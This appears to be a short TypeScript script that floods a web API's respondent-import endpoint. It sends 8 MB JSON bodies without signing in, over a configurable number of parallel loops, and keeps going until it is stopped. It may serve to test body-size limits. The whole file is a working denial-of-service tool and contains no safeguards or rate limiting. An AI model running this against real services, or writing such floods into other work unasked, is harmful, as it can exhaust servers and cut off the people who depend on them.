/** Posts 8 MB to the API again and again, so many at a time, without being signed in, until it is stopped. */
const [url = '', origin = '', count = '0'] = process.argv.slice(2);
const body = JSON.stringify({ email: 'x'.repeat(8 * 1024 * 1024), password: 'x' });

async function post(): Promise<void> {
  for (;;) {
    const answer = fetch(`${url}/api/workspaces/1/forms/1/respondents/import`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', origin },
      body,
    });
    // Whoever is refused before the whole is sent sees a broken connection.
    await Promise.allSettled([answer.then((response) => response.text())]);
  }
}

for (let place = 0; place < Number(count); place += 1) void post();
